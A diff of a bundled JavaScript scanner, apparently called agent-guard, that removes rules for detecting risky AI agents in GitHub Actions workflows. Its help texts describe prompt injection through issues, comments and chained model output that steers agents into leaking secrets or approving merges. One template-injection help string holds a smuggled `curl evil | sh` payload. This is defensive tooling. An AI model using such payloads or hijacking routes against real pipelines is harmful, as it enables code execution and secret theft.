-  pull_request_review_comment: ["comment"],
-  workflow_run: ["workflow_run", "commit"],
-  repository_dispatch: ["payload"],
-  push: ["commit"]
-};
-function triggerRuleFor(rules, event) {
-  return rules.find((r) => r.event === event);
-}
-function classifyTriggers(workflow, rules, byName) {
-  return workflow.triggers.map((trigger) => classify(trigger, workflow, rules, byName, /* @__PURE__ */ new Set()));
-}
-function classify(trigger, workflow, rules, byName, seen) {
-  const event = trigger.event.toLowerCase();
-  const rule = triggerRuleFor(rules, event);
-  const filter = trigger.types.map((t) => t.toLowerCase());
-  const maintainerOnly = (rule?.maintainerOnlyTypes ?? []).map((t) => t.toLowerCase());
-  const allActions = { allowed: filter.length ? filter : null, excluded: [] };
-  const outsiderTypes = filter.length ? filter.filter((t) => !maintainerOnly.includes(t)) : null;
-  const outsiderActions = outsiderTypes === null ? { allowed: null, excluded: maintainerOnly } : outsiderTypes.length ? { allowed: outsiderTypes, excluded: [] } : null;
-  const base = { event, trigger, workflow, allActions };
-  if (!rule) return { ...base, firing: "maintainers", outsiderActions: null, uncertain: `unknown event '${event}'` };
-  switch (rule.who) {
-    case "anyone":
-    case "anyone-unprivileged":
-      return { ...base, firing: outsiderActions ? rule.who : "maintainers", outsiderActions };
-    case "callers":
-      return { ...base, firing: "callers", outsiderActions };
-    case "maintainers":
-      return { ...base, firing: "maintainers", outsiderActions: null };
-    case "upstream":
-      return { ...base, ...upstreamFiring(trigger, workflow, rules, byName, seen), outsiderActions };
-  }
-}
-var upstreamMemo = /* @__PURE__ */ new WeakMap();
-function memoFor(byName) {
-  let memo = upstreamMemo.get(byName);
-  if (!memo) upstreamMemo.set(byName, memo = /* @__PURE__ */ new Map());
-  return memo;
-}
-function upstreamFiring(trigger, workflow, rules, byName, seen) {
-  const config = trigger.config;
-  const names = [];
-  if (config?.kind === "map") {
-    const list = config.pairs.find((p) => p.key.text === "workflows")?.value;
-    if (list?.kind === "seq") {
-      for (const i of list.items) if (i.kind === "scalar") names.push(i.text);
-    } else if (list?.kind === "scalar") {
-      names.push(list.text);
-    }
-  }
-  if (!names.length) return { firing: "anyone", uncertain: "workflow_run without a workflows list" };
-  seen.add(workflow);
-  let unresolved = 0;
-  for (const name of names) {
-    const known = memoFor(byName).get(name);
-    if (known === "outsiders") return { firing: "anyone" };
-    if (known === "maintainers") continue;
-    let outsiders = false;
-    let found = false;
-    for (const upstream of byName(name)) {
-      found = true;
-      if (seen.has(upstream)) continue;
-      const fired = upstream.triggers.map((t) => classify(t, upstream, rules, byName, seen));
-      if (fired.some((t) => t.firing === "anyone" || t.firing === "anyone-unprivileged")) {
-        outsiders = true;
-        break;
-      }
-    }
-    if (!found) {
-      unresolved++;
-      continue;
-    }
-    memoFor(byName).set(name, outsiders ? "outsiders" : "maintainers");
-    if (outsiders) return { firing: "anyone" };
-  }
-  if (unresolved) return { firing: "anyone", uncertain: `upstream workflow '${names.join("', '")}' not found in the repository` };
-  return { firing: "maintainers" };
 }
 
 // src/analysis/instances.ts
@@ -23728,9 +23005,9 @@ function findApiCalls(text, apis) {
 }
 
 // src/analysis/projectConfig.ts
-var import_node_fs4 = __toESM(require("node:fs"));
-var import_node_path3 = __toESM(require("node:path"));
-var import_yaml7 = __toESM(require_dist());
+var import_node_fs2 = __toESM(require("node:fs"));
+var import_node_path2 = __toESM(require("node:path"));
+var import_yaml8 = __toESM(require_dist());
 var NONE = { values: () => [], command: () => void 0, text: () => void 0 };
 var byRepo = /* @__PURE__ */ new WeakMap();
 function projectConfig(repo) {
@@ -23748,15 +23025,15 @@ function load(repo) {
     const clean = safeRelative(relative3);
     if (!clean) return null;
     if (texts.has(clean)) return texts.get(clean);
-    const abs = import_node_path3.default.join(repo.root, clean);
+    const abs = import_node_path2.default.join(repo.root, clean);
     let text = null;
     try {
       const reader = repo.reader;
-      const exists = reader ? reader.exists(abs) : import_node_fs4.default.existsSync(abs);
+      const exists = reader ? reader.exists(abs) : import_node_fs2.default.existsSync(abs);
       if (exists) {
-        const size = reader ? reader.size(abs) : import_node_fs4.default.statSync(abs).size;
+        const size = reader ? reader.size(abs) : import_node_fs2.default.statSync(abs).size;
         if (size > MAX_FILE_BYTES) report2(shown(repo, abs), 1, `agent configuration file too large to read (${size} bytes); ignored`);
-        else text = reader ? reader.read(abs) : import_node_fs4.default.readFileSync(abs, "utf8");
+        else text = reader ? reader.read(abs) : import_node_fs2.default.readFileSync(abs, "utf8");
       }
     } catch {
       text = null;
@@ -23767,7 +23044,7 @@ function load(repo) {
   const valuesOf = (file) => {
     const text = read2(file.path);
     if (text === null) return [];
-    const where = shown(repo, import_node_path3.default.join(repo.root, file.path));
+    const where = shown(repo, import_node_path2.default.join(repo.root, file.path));
     if (!file.field) return [{ as: file.as, value: text, file: file.path, replacedByInput: file.replacedByInput }];
     const data = structured(file.path, text, where, report2);
     if (data === void 0) return [];
@@ -23788,7 +23065,7 @@ function load(repo) {
         const relative3 = commandPath(dir, name);
         const text = relative3 ? read2(relative3) : null;
         if (text === null || !relative3) continue;
-        const where = shown(repo, import_node_path3.default.join(repo.root, relative3));
+        const where = shown(repo, import_node_path2.default.join(repo.root, relative3));
         const grants = [];
         if (dir.toolsField && dir.toolsAs) {
           const front = frontMatter(text, where, report2);
@@ -23812,8 +23089,8 @@ function commandPath(dir, name) {
   return `${dir.dir}/${name.split(":").join("/")}${dir.ext}`;
 }
 function safeRelative(relative3) {
-  const clean = import_node_path3.default.posix.normalize(relative3.replace(/^\.\/+/, ""));
-  if (!clean || clean === "." || clean.startsWith("../") || clean === ".." || import_node_path3.default.posix.isAbsolute(clean)) return null;
+  const clean = import_node_path2.default.posix.normalize(relative3.replace(/^\.\/+/, ""));
+  if (!clean || clean === "." || clean.startsWith("../") || clean === ".." || import_node_path2.default.posix.isAbsolute(clean)) return null;
   return clean;
 }
 function shown(repo, abs) {
@@ -23838,7 +23115,7 @@ function frontMatter(text, where, report2) {
   const m = FRONT_MATTER.exec(text);
   if (!m) return {};
   try {
-    const data = (0, import_yaml7.parse)(m[1]);
+    const data = (0, import_yaml8.parse)(m[1]);
     return data && typeof data === "object" ? data : {};
   } catch (err) {
     const line = /at line (\d+)/.exec(err.message);
@@ -24641,675 +23918,6 @@ function mentionsName(text, name) {
   return false;
 }
 
-// src/analysis/reach.ts
-var REACH_ORDER = { none: 0, "action-gated": 1, maintainer: 2, "outsider-unprivileged": 3, outsider: 4 };
-var THREAD_EVENTS = /* @__PURE__ */ new Set([
-  "issues",
-  "issue_comment",
-  "pull_request",
-  "pull_request_target",
-  "pull_request_review",
-  "pull_request_review_comment",
-  "discussion",
-  "discussion_comment"
-]);
-var TRIGGERING_ACTOR = { kind: "context", role: "actor", events: null, what: "the triggering actor" };
-function reachOf(origin, step, actorGate) {
-  let best = { level: "none", how: "no trigger lets an outsider reach it" };
-  const hard = hardGates(step);
-  for (const trigger of step.job.triggers) {
-    const event = trigger.event;
-    const callersUnknown = trigger.firing === "callers";
-    if (!callersUnknown && origin.events && !origin.events.includes(event)) continue;
-    if (!callersUnknown && origin.kind === "thread" && !THREAD_EVENTS.has(event)) continue;
-    const candidate = reachOnTrigger(origin, step, trigger, hard, actorGate);
-    if (callersUnknown && candidate.level !== "none") {
-      candidate.callersUnknown = true;
-      if (origin.events) candidate.how = `its callers are unknown here (a reusable workflow no workflow of this repository calls); called from a workflow on ${origin.events.slice(0, 3).join(", ")}, ${origin.what} is outsider text`;
-    }
-    if (REACH_ORDER[candidate.level] > REACH_ORDER[best.level]) best = candidate;
-    if (best.level === "outsider") break;
-  }
-  return best;
-}
-function reachOnTrigger(origin, step, trigger, hard, actorGate) {
-  const event = trigger.event;
-  const role = origin.role;
-  const actorRoles = ACTOR_ROLES[event] ?? [];
-  const who = trigger.firing;
-  const envNote = hard.environment ? `environment '${hard.environment}' may require a reviewer's approval` : void 0;
-  const uncertain = [trigger.uncertain, envNote].filter(Boolean).join("; ") || void 0;
-  const outsiderFires = (who === "anyone" || who === "anyone-unprivileged" || who === "callers") && trigger.outsiderActions && !origin.maintainerChosen;
-  let fallback = { level: "none", how: "gated", uncertain };
-  if (outsiderFires) {
-    const attacker = /* @__PURE__ */ new Set(["actor", ...actorRoles, role]);
-    const blockedBy = directBlocker(hard, actorGate, event);
-    if (passes(step, scenario(event, trigger.outsiderActions, attacker, hard, step))) {
-      const callers = who === "callers" ? "whoever calls this reusable workflow (callers unknown here)" : "any GitHub user";
-      if (!blockedBy) {
-        const level = who === "anyone-unprivileged" ? "outsider-unprivileged" : "outsider";
-        return { level, trigger, how: `${callers} can fire '${event}'${describeTypes(trigger.outsiderActions)}`, uncertain: who === "callers" ? "reusable workflow with no caller in this repository" : uncertain };
-      }
-      if (actorGate && blockedBy === actorGate.description) {
-        fallback = { level: "action-gated", trigger, how: `${callers} can fire '${event}'; only ${actorGate.description} stops outsiders`, uncertain };
-      }
-    }
-  }
-  if ((origin.kind === "fetch" || origin.kind === "thread") && !origin.maintainerChosen && (event === "schedule" || event === "workflow_run" || event === "push")) {
-    if (passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role]), hard, step))) {
-      return { level: "outsider", trigger, how: `'${event}' runs unattended over text outsiders wrote (issues, comments, pull requests)`, uncertain };
-    }
-  }
-  const indirectPossible = role !== "actor" && (!actorRoles.includes(role) || hasMaintainerActions(trigger) || origin.kind !== "context");
-  if (indirectPossible && passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role, ...role === "pull_request" ? ["commit"] : []]), hard, step))) {
-    const whose = origin.kind === "context" ? `the ${origin.role.replace("_", " ")} an outsider wrote` : "text outsiders wrote";
-    return { level: "maintainer", trigger, how: `only a maintainer's '${event}' starts it, but over ${whose} (one click on a poisoned issue is enough)`, uncertain };
-  }
-  return fallback;
-}
-function describeTypes(actions) {
-  return actions.allowed ? ` (${actions.allowed.join(", ")})` : "";
-}
-function hasMaintainerActions(trigger) {
-  const outsider = trigger.outsiderActions;
-  if (!outsider) return true;
-  const all = trigger.allActions.allowed;
-  if (!all) return outsider.excluded.length > 0;
-  return all.some((a) => !outsider.allowed || !outsider.allowed.includes(a));
-}
-function directBlocker(hard, actorGate, event) {
-  if (hard.blockingCheck) return hard.blockingCheck;
-  if (actorGate?.enforcedOn(event)) return actorGate.description;
-  return void 0;
-}
-function scenario(event, actions, attacker, hard, step) {
-  return { event, actions, attacker, permissionSteps: hard.permissionSteps, permissionJobs: hard.permissionJobs, trustedBots: step.job.trust.bots };
-}
-function passes(step, s) {
-  for (const c of step.job.conditions) if (!canPass(c.expr, s)) return false;
-  for (const c of step.conditions) if (!canPass(c.expr, s)) return false;
-  return true;
-}
-function hardGates(step) {
-  const job = step.job;
-  const gates = { permissionSteps: /* @__PURE__ */ new Set(), permissionJobs: /* @__PURE__ */ new Set() };
-  if (job.job.environment) gates.environment = job.job.environment.name;
-  for (const s of job.steps) {
-    if (s.position >= step.position) break;
-    const kind = permissionCheckKind(s);
-    if (!kind) continue;
-    if (s.step.id) gates.permissionSteps.add(s.step.id);
-    if (kind === "fails" && !s.step.continueOnError) gates.blockingCheck = `the permission check in step '${s.step.label}'`;
-  }
-  for (const needed of allNeeds(job.needs)) {
-    if (needed.steps.some((s) => permissionCheckKind(s))) {
-      gates.permissionJobs.add(needed.job.id);
-      if (needed.steps.some((s) => permissionCheckKind(s) === "fails")) gates.blockingCheck = `the permission check in job '${needed.job.id}'`;
-    }
-  }
-  return gates;
-}
-function allNeeds(needs) {
-  const out = /* @__PURE__ */ new Set();
-  const stack = [...needs];
-  while (stack.length) {
-    const j = stack.pop();
-    if (out.has(j)) continue;
-    out.add(j);
-    stack.push(...j.needs);
-  }
-  return [...out];
-}
-var PERMISSION_ACTIONS = /^(actions-cool\/check-user-permission|sushichop\/action-repository-permission|prince-chrismc\/check-actor-permissions-action|lannonbr\/repo-permission-check-action|xt0rted\/slash-command-action|TheModdingInquisition\/actions-team-membership|tspascoal\/get-user-teams-membership)@/i;
-var PERMISSION_API = /getCollaboratorPermissionLevel|collaborators\/[^/\s]+\/permission|\/permission\b|checkMembershipForUser|getMembershipForUserInOrg|orgs\/[^/\s]+\/members\/|teams\/[^/\s]+\/memberships/;
-var FAILS = /setFailed|process\.exit\(\s*1|\bexit\s+1\b|throw\s+new\s+Error|core\.setFailed/;
-function permissionCheckKind(s) {
-  const uses = s.step.uses?.text ?? "";
-  if (PERMISSION_ACTIONS.test(uses)) {
-    return /actions-cool\/check-user-permission|membership/i.test(uses) ? "reports" : "fails";
-  }
-  const code3 = /^actions\/github-script@/i.test(uses) ? inputOf(s.step.with, "script")?.text ?? "" : s.step.run?.text ?? "";
-  if (!code3 || !PERMISSION_API.test(code3)) return null;
-  return FAILS.test(code3) ? "fails" : "reports";
-}
-
-// src/analysis/severity.ts
-var POWERFUL_SCOPES = /* @__PURE__ */ new Set(["*", "contents", "actions", "packages", "workflows", "deployments", "pages"]);
-function holdingOf(c) {
-  if (c.jailed) return "nothing";
-  const exfil = c.tools.shell === "full" || c.tools.network;
-  const nonModelSecrets = c.secrets.some((s) => !s.modelKey);
-  const hasTools = c.tools.shell !== "none" || c.tools.network || c.tools.writesFiles;
-  const tokenInHand = c.tokens.length > 0 && hasTools;
-  const powerfulToken = c.writeScopes.some((s) => POWERFUL_SCOPES.has(s)) && (tokenInHand || c.persistedCredentials);
-  const publishPower = nonModelSecrets || c.tokens.some((t) => t.foreign) || powerfulToken || c.idToken || c.selfHosted || c.cloudCredentials.length > 0;
-  if (c.tools.shell === "full" && !c.selfHosted) return "worm";
-  if ((exfil || c.tools.shell === "restricted") && publishPower) return "worm";
-  const anyWrite = c.writeScopes.length > 0;
-  const modelKey = c.keyInProcess && c.secrets.some((s) => s.modelKey);
-  if (exfil) return "acts";
-  if (tokenInHand && anyWrite) return "acts";
-  if (c.commands?.length || c.remoteAgent) return "acts";
-  if (c.tools.shell === "restricted" && (anyWrite || nonModelSecrets || modelKey)) return "acts";
-  if (c.idToken && c.tools.shell !== "none") return "acts";
-  return "nothing";
-}
-function severityFor(reach, c) {
-  if (reach === "none") return null;
-  if (reach === "action-gated") return "low";
-  const holding = holdingOf(c);
-  if (reach === "outsider") return holding === "worm" ? "critical" : holding === "acts" ? "high" : "medium";
-  if (reach === "outsider-unprivileged") return "medium";
-  return holding === "nothing" ? "low" : "medium";
-}
-
-// src/checks/context.ts
-var DOCS_BASE = "https://github.com/agent-guard/agent-guard/blob/main/docs/rules";
-function docsUrl(id) {
-  return `${DOCS_BASE}/${id}.md`;
-}
-
-// src/checks/common.ts
-var CONFIDENCE_ORDER = { low: 0, medium: 1, high: 2 };
-function worstTaint(site, channels) {
-  let best = null;
-  for (const channel of channels) {
-    for (const taint of channel.taints) {
-      const reach = reachOf(taint.origin, site.step, site.actorGate);
-      if (reach.level === "none") continue;
-      const candidate = { channel, taint, reach };
-      if (!best || better(candidate, best)) best = candidate;
-    }
-  }
-  return best;
-}
-function better(a, b) {
-  const r = REACH_ORDER[a.reach.level] - REACH_ORDER[b.reach.level];
-  if (r) return r > 0;
-  const c = CONFIDENCE_ORDER[a.channel.confidence] - CONFIDENCE_ORDER[b.channel.confidence];
-  if (c) return c > 0;
-  return a.taint.hops.length < b.taint.hops.length;
-}
-function confidenceOf(hit) {
-  if (hit.reach.callersUnknown) return "low";
-  if (hit.reach.uncertain && hit.channel.confidence === "high") return "medium";
-  return hit.channel.confidence;
-}
-function siteLocation(site) {
-  const pos = positionOf(site.file, site.offset);
-  return { file: site.file.path, line: pos.line, column: pos.column };
-}
-function stepLocation(step, offset) {
-  const pos = positionOf(step.file, offset);
-  return { file: step.file.path, line: pos.line, column: pos.column };
-}
-function jobAndStep(step) {
-  return { job: step.job.job.id, step: step.step.label };
-}
-function pathOf(site, hit, sinkNote) {
-  const loc2 = siteLocation(site);
-  return [...site.step.job.via, ...actionCalls(site.step, hit.taint.hops), ...hit.taint.hops, { ...loc2, note: sinkNote }];
-}
-function actionCalls(step, hops) {
-  const out = [];
-  for (let f = step.frame; f; f = f.callerStep.frame) {
-    const caller = f.callerStep;
-    const uses = caller.step.uses;
-    if (!uses) continue;
-    const pos = positionOf(caller.file, uses.start);
-    out.unshift({ file: caller.file.path, line: pos.line, column: pos.column, note: `step '${caller.step.label}' runs ${uses.text}` });
-  }
-  const outermost = out[0]?.file;
-  return outermost && hops.some((h) => h.file === outermost) ? [] : out;
-}
-function severityOf(hit, caps) {
-  return severityFor(hit.reach.level, caps);
-}
-function capabilityList(caps) {
-  return describeCapabilities(caps);
-}
-var PROVIDER_BY_KEY = { anthropic: "anthropic", openai: "openai", gemini: "gemini" };
-function fixFor(site, hit) {
-  const lines = [];
-  const event = hit?.reach.trigger?.event;
-  const obj3 = gateObject(event);
-  if (hit && (hit.reach.level === "outsider" || hit.reach.level === "outsider-unprivileged")) {
-    if (obj3) {
-      lines.push(
-        `Gate the job on who wrote the text: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.${obj3}.author_association)\`.`
-      );
-    } else {
-      lines.push("Do not run the agent on events outsiders can fire, or gate the job on the actor's write access.");
-    }
-  }
-  const w = site.gateWidenedBy;
-  if (w && !w.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\` so the action's own write-access check applies.`);
-  if (w?.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\`: it opens the agent to outsiders as soon as \`${w.inertWithout}\` is set.`);
-  const c = site.capabilities;
-  if (c.jailed) {
-    lines.push("The agent runs in the jail and holds nothing; what remains is what its output and its writes to the workspace can steer (see poisoned-workspace and ai-output-unsafe).");
-  }
-  if (c.writeScopes.length || c.idToken) {
-    lines.push(
-      c.jailed ? "The job's write permissions belong to the guard: grant the agent only the writes it needs (`--grant comment`, `--grant label=bug,question`, or the Action's `grants`); each request is checked and performed with a token the agent never sees." : "Give the agent job `permissions: { contents: read }` (no id-token), and let the guard do the writes it needs: `agent-guard run --grant comment --grant label=bug,question ...` (the Action's `grants`) checks each request and performs it with a token the agent never sees, and `--defer` moves the writes to a job without AI."
-    );
-  }
-  if (c.tokens.some((t) => t.foreign)) lines.push("Do not hand the agent a personal access token or App token; use the job's short-lived GITHUB_TOKEN with read permissions.");
-  if (c.persistedCredentials) lines.push("Set `persist-credentials: false` on actions/checkout.");
-  if (c.secrets.some((s) => !s.modelKey)) lines.push(`Move secrets the agent does not need (${c.secrets.filter((s) => !s.modelKey).map((s) => s.name).join(", ")}) out of its job.`);
-  const provider = providerFor(site);
-  if (site.cli && !c.jailed) {
-    lines.push(`Run it in the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.cli.commands[0]} ...\` (no secrets, no network but the model API, the key held by a proxy).`);
-  } else if (site.action) {
-    if (c.jailed) {
-    } else if (site.action.id.startsWith("claude-code-action")) {
-      lines.push("Run Claude Code in the jail: `agent-guard wrap claude` installs a wrapper; set `path_to_claude_code_executable` to it.");
-    } else if (site.action.cli) {
-      lines.push(`Replace the action with its CLI under the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.action.cli} ...\`.`);
-    }
-  }
-  if (site.api?.kind === "agent") {
-    lines.push(`${site.api.name} ${site.api.acts}: start it only from text a maintainer wrote or approved (a label, a maintainer's comment), never from an outsider's issue or comment.`);
-  }
-  if (hit && (hit.channel.kind === "prompt" || hit.channel.kind === "script" || hit.channel.kind === "env")) {
-    lines.push("Pass outsider text as data the agent reads with no tools that matter, never as instructions: moving it into env: protects a shell, not a prompt.");
-  }
-  return lines.join(" ");
-}
-function providerFor(site) {
-  const p = site.cli?.provider;
-  if (p) return p;
-  return site.action?.cli ? PROVIDER_BY_KEY[site.action.cli] : void 0;
-}
-function gateObject(event) {
-  switch (event) {
-    case "issues":
-      return "issue";
-    case "issue_comment":
-    case "discussion_comment":
-    case "pull_request_review_comment":
-      return "comment";
-    case "pull_request_target":
-    case "pull_request":
-      return "pull_request";
-    case "pull_request_review":
-      return "review";
-    case "discussion":
-      return "discussion";
-    default:
-      return null;
-  }
-}
-function describeReach(hit) {
-  switch (hit.reach.level) {
-    case "outsider":
-      return hit.reach.how;
-    case "outsider-unprivileged":
-      return `${hit.reach.how} (from a fork: no secrets, read-only token)`;
-    case "maintainer":
-    case "action-gated":
-      return hit.reach.how;
-    default:
-      return "not reachable";
-  }
-}
-
-// src/checks/agentGateDisabled.ts
-var agentGateDisabled = {
-  meta: {
-    id: "agent-gate-disabled",
-    title: "An agent action's built-in write-access check is switched off",
-    severity: "high",
-    docs: docsUrl("agent-gate-disabled"),
-    help: 'claude-code-action, droid-action, codex-action and opencode refuse to run for users without write access unless an input opens them (`allowed_non_write_users: "*"`, `allowed_bots: "*"`, `allow-users: "*"`). On a trigger outsiders can fire, that input hands the agent, and everything it holds, to anyone who can open an issue. Remove the input, or keep it only on a job that holds nothing.'
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      const widened = site.gateWidenedBy;
-      if (!widened) continue;
-      const reach = reachOf(TRIGGERING_ACTOR, site.step);
-      if (reach.level !== "outsider") continue;
-      const openToAnyone = widened.value.trim() === "*" || widened.effect === "anyone";
-      const holding = holdingOf(site.capabilities);
-      let severity = holding === "nothing" ? "medium" : "high";
-      if (widened.effect === "bots" || !/^\*$/.test(widened.value.trim())) severity = holding === "nothing" ? "low" : "medium";
-      if (widened.inertWithout) severity = "low";
-      const at = widened.node?.start ?? site.offset;
-      findings.push({
-        rule: "agent-gate-disabled",
-        severity,
-        confidence: "high",
-        ...stepLocation(site.step, at),
-        ...jobAndStep(site.step),
-        message: widened.inertWithout ? `\`${widened.input}: ${widened.value.trim()}\` would switch off ${site.agentName}'s write-access check, and does as soon as \`${widened.inertWithout}\` is set: ${reach.how}.` : `\`${widened.input}: ${widened.value.trim()}\` switches off ${site.agentName}'s write-access check${openToAnyone ? "" : " for the listed users or bots"}: ${reach.how}.`,
-        path: [],
-        capabilities: capabilityList(site.capabilities),
-        fix: fixFor(site, null)
-      });
-    }
-    return findings;
-  }
-};
-
-// src/checks/agentOutputLeak.ts
-var TRANSCRIPTS = /\.claude\/projects|\.claude\b|\.gemini\/tmp|\.codex\/sessions|\.codex\b|transcript|session[-_ ]?log|\.opencode|\.goose/i;
-var agentOutputLeak = {
-  meta: {
-    id: "agent-output-leak",
-    title: "An outsider-reachable agent's full output or transcripts are published",
-    severity: "medium",
-    docs: docsUrl("agent-output-leak"),
-    help: "Workflow logs, step summaries and artifacts of a public repository are public. Inputs like claude-code-action's `show_full_output`, run-gemini-cli's `gemini_debug` and `upload_artifacts`, or an upload of the agent's session folder, publish everything the agent saw and did \u2014 a hijacked agent only has to read a secret to publish it, since secret masking covers only values GitHub knows. Leave these off on jobs outsiders can trigger, and upload only the structured result the next job needs."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
-      if (reach.level !== "outsider" && reach.level !== "maintainer") continue;
-      for (const leak of leaks(site)) {
-        findings.push({
-          rule: "agent-output-leak",
-          severity: reach.level === "outsider" && !site.capabilities.jailed ? "medium" : "low",
-          confidence: "medium",
-          ...stepLocation(leak.step, leak.offset),
-          ...jobAndStep(leak.step),
-          message: `${leak.what} of ${site.agentName} (step '${site.step.step.label}'): ${reach.how}.`,
-          path: [],
-          capabilities: capabilityList(site.capabilities),
-          fix: "Turn it off on jobs outsiders can reach; publish only a validated, structured result."
-        });
-      }
-    }
-    return findings;
-  }
-};
-function leaks(site) {
-  const out = [];
-  for (const name of site.action?.leakInputs ?? []) {
-    const entry = inputOf(site.step.step.with, name);
-    const value = entry?.text.trim().toLowerCase() ?? "";
-    if (entry && value && value !== "false" && value !== "0" && value !== "manual" && value !== "disabled") {
-      out.push({ step: site.step, offset: entry.value.start, what: `\`${entry.name}: ${entry.text.trim()}\` publishes the output` });
-    }
-  }
-  for (const later of site.step.job.steps) {
-    if (later.position <= site.step.position || !/^actions\/upload-artifact@/i.test(later.step.uses?.text ?? "")) continue;
-    const path21 = inputOf(later.step.with, "path");
-    if (path21 && TRANSCRIPTS.test(path21.text)) {
-      out.push({ step: later, offset: path21.value.start, what: `step '${later.step.label}' uploads the session transcripts (${path21.text.trim()})` });
-    }
-  }
-  return out;
-}
-
-// src/checks/siteRule.ts
-function siteRule(meta, origins2, message, sinkNote) {
-  return {
-    meta,
-    run(ctx) {
-      const findings = [];
-      for (const site of ctx.sites) {
-        const channels = site.channels.map((c) => ({ ...c, taints: c.taints.filter((t) => origins2.includes(t.origin.kind)) })).filter((c) => c.taints.length);
-        const hit = worstTaint(site, channels);
-        if (!hit) continue;
-        const severity = severityOf(hit, site.capabilities);
-        if (!severity) continue;
-        findings.push({
-          rule: meta.id,
-          severity,
-          confidence: confidenceOf(hit),
-          ...siteLocation(site),
-          ...jobAndStep(site.step),
-          message: `${message(site, hit)}: ${describeReach(hit)}.`,
-          path: pathOf(site, hit, `${sinkNote} (${hit.channel.name})`),
-          related: relatedSources(site, channels, hit),
-          capabilities: capabilityList(site.capabilities),
-          fix: fixFor(site, hit)
-        });
-      }
-      return findings;
-    }
-  };
-}
-function relatedSources(site, channels, chosen) {
-  const out = [];
-  const seen = /* @__PURE__ */ new Set([key(chosen.taint.hops[0])]);
-  for (const channel of channels) {
-    for (const taint of channel.taints) {
-      const first = taint.hops[0];
-      if (!first || seen.has(key(first))) continue;
-      if (reachOf(taint.origin, site.step, site.actorGate).level === "none") continue;
-      seen.add(key(first));
-      out.push(first);
-    }
-  }
-  return out.slice(0, 20);
-}
-function key(h) {
-  return h ? `${h.file}:${h.line}:${h.column}` : "";
-}
-
-// src/checks/agentReadsUntrusted.ts
-function commandsNote(site) {
-  const commands = site.capabilities.commands ?? [];
-  if (!commands.length) return "";
-  const names = commands.map((c) => c.name);
-  return `, and the commenter picks its command (${names.slice(0, 4).join(", ")}${names.length > 4 ? ", \u2026" : ""}), which writes with the job's token`;
-}
-var agentReadsUntrusted = siteRule(
-  {
-    id: "agent-reads-untrusted",
-    title: "An AI agent fetches outsider-written issues, comments or pull requests itself",
-    severity: "critical",
-    docs: docsUrl("agent-reads-untrusted"),
-    help: "The agent fetches the issue or pull-request thread (or is told to, e.g. `gh issue view`, GitHub MCP tools), so text written by anyone reaches it even though the workflow interpolates nothing. A scheduled agent that reads open issues is reachable by every outsider, one hour later. Treat the agent as holding untrusted input: no secrets, no write token, no shell, and run it under `agent-guard run`."
-  },
-  ["thread", "fetch"],
-  (site, hit) => `${site.agentName} reads ${hit.taint.origin.what}${commandsNote(site)}`,
-  "the agent reads it at run time"
-);
-
-// src/checks/templateInjection.ts
-function codeSinks(step) {
-  const out = [];
-  if (step.step.run) out.push({ node: step.step.run, what: "the run script" });
-  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? "")) {
-    const script = inputOf(step.step.with, "script");
-    if (script?.value.kind === "scalar") out.push({ node: script.value, what: "the github-script script" });
-  }
-  return out;
-}
-function sinkTaints(step, node, engine) {
-  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
-}
-var templateInjection = {
-  meta: {
-    id: "template-injection",
-    title: "Outsider-controlled text is expanded into a shell script",
-    severity: "critical",
-    docs: docsUrl("template-injection"),
-    help: '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.'
-  },
-  run(ctx) {
-    const findings = [];
-    for (const step of ctx.steps) {
-      for (const sink2 of codeSinks(step)) {
-        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
-          if (taint.origin.kind === "ai-output") continue;
-          const reach = reachOf(taint.origin, step);
-          const caps = shellCapabilities(step);
-          const severity = severityFor(reach.level, caps);
-          if (!severity) continue;
-          const sink3 = taint.hops[taint.hops.length - 1];
-          findings.push({
-            rule: "template-injection",
-            severity,
-            confidence: taint.hops.some((h) => h.note.startsWith("assumed")) ? "low" : "high",
-            file: sink3.file,
-            line: sink3.line,
-            column: sink3.column,
-            ...jobAndStep(step),
-            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reach.how}.`,
-            path: [...step.job.via, ...taint.hops],
-            capabilities: capabilityList(caps),
-            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.'
-          });
-        }
-      }
-    }
-    return findings;
-  }
-};
-function sinkLabel(step) {
-  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
-}
-
-// src/checks/aiOutputUnsafe.ts
-var MERGE = /\bgh\s+pr\s+(merge|review\b[^\n]*--approve)|pulls\.(merge|createReview)|enablePullRequestAutoMerge|auto-merge|--admin\b/;
-var aiOutputUnsafe = {
-  meta: {
-    id: "ai-output-unsafe",
-    title: "A model's output is used as code, as another agent's prompt, or to decide a merge",
-    severity: "critical",
-    docs: docsUrl("ai-output-unsafe"),
-    help: "Whoever steers the model's input steers its output. Expanding `${{ steps.ai.outputs.response }}` into a script turns a prompt injection into a command injection; feeding it to another agent chains the injection; letting it decide a merge or approval lets the outsider approve their own change. Pass model output through `env:` and treat it as data: validate it against a schema or an allowlist in a step without AI."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const step of ctx.steps) {
-      let reachCache;
-      const reachOfStep = () => reachCache ??= reachOf(TRIGGERING_ACTOR, step);
-      for (const sink2 of codeSinks(step)) {
-        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
-          if (taint.origin.kind !== "ai-output") continue;
-          const reach2 = reachOfStep();
-          if (reach2.level === "none") continue;
-          const caps = shellCapabilities(step);
